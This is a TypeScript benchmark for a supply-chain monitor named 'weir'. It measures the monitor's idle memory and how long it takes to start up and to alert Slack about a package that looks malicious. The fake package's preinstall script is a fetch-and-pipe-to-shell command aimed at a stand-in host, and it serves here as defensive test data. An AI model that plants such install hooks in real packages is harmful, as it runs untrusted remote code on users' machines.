import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startSlackStandIn } from '@weir/alerts/slack/stand-in';
import { startNpmStandIn } from '@weir/registries/npm/stand-in';
import { systemClock } from '@weir/runtime';
import { cpuMsOf, listProgramProcesses, pssBytesOf } from '../lib/processes.ts';
import { startProgram } from '../lib/program.ts';

export interface IdleResult {
  /** Proportional set size of all processes of an idle monitor, Postgres included, in MiB. */
  readonly pssMiB: number;
  readonly processes: readonly { readonly command: string; readonly pssMiB: number }[];
  /** From the start of the process to the first alert at Slack of a release that waited in the feed. */
  readonly startToFirstAlertMs: number;
  /** From the start of the process to the first request for that release's document: the first event. */
  readonly startToFirstEventMs: number;
  /** CPU time of all its processes until then: what the start costs where the cores are shared with others. */
  readonly startToFirstEventCpuMs: number;
}

const SETTLE_MS = 30_000;
const WAIT_MS_MAX = 60_000;

function toMiB(bytes: number): number {
  return Math.round((bytes / 1024 / 1024) * 10) / 10;
}

/**
 * Starts `weir monitor` with everything embedded, once to warm up, then again with an attack waiting in the feed,
 * and weighs it after it has been idle for {@link SETTLE_MS}.
 */
export async function benchIdle(): Promise<IdleResult> {
  await using standIn = await startNpmStandIn();
  await using slack = await startSlackStandIn({ clock: systemClock });
  const dataDir = await mkdtemp(join(tmpdir(), 'weir-bench-idle-'));
  const env = {
    WEIR_DATA: dataDir,
    WEIR_HTTP_PORT: '0',
    WEIR_NPM_FEED_URL: standIn.feedUrl,
    WEIR_NPM_DOCUMENTS_URL: standIn.url,
    WEIR_SLACK_WEBHOOK_URL: slack.url,
    WEIR_LOG_LEVEL: 'warn',
  };
  function attack(name: string): void {
    standIn.world.publish([
      {
        name,
        version: '1.0.0',
        manifest: { scripts: { preinstall: 'curl -fsSL https://x.example/i.sh | sh' } },
      },
    ]);
  }
  async function until(holds: () => boolean): Promise<void> {
    const deadlineMs = systemClock.now() + WAIT_MS_MAX;
    while (!holds()) {
      if (systemClock.now() > deadlineMs) throw new Error('weir monitor did not do what was waited for');
      await systemClock.sleep(20);
    }
  }
  try {
    const first = startProgram(['monitor'], env);
    await until(() => standIn.requests.some((request) => request.target === 'feed'));
    attack('bench-first');
    await until(() => slack.requests.length > 0);
    first.kill('SIGTERM');
    await first.exit;

    attack('bench-waiting');
    const alertsBefore = slack.requests.length;
    const startedAtMs = systemClock.now();
    const program = startProgram(['monitor'], env);
    try {
      await until(() => standIn.requests.some((request) => request.name === 'bench-waiting'));
      const startToFirstEventMs = systemClock.now() - startedAtMs;
      const startToFirstEventCpuMs = listProgramProcesses(program.pid, dataDir).reduce(
        (sum, { pid }) => sum + cpuMsOf(pid),
        0,
      );
      await until(() => slack.requests.length > alertsBefore);
      const startToFirstAlertMs = systemClock.now() - startedAtMs;
      await systemClock.sleep(SETTLE_MS);
      const processes = listProgramProcesses(program.pid, dataDir).map(({ pid, command }) => ({
        command: command.slice(0, 80).trim(),
        pssMiB: toMiB(pssBytesOf(pid)),
      }));
      const pssMiB = Math.round(processes.reduce((sum, one) => sum + one.pssMiB, 0) * 10) / 10;
      return { pssMiB, processes, startToFirstAlertMs, startToFirstEventMs, startToFirstEventCpuMs };
    } finally {
      program.kill('SIGTERM');
      await program.exit;
    }
  } finally {
    await rm(dataDir, { recursive: true, force: true });
  }
}
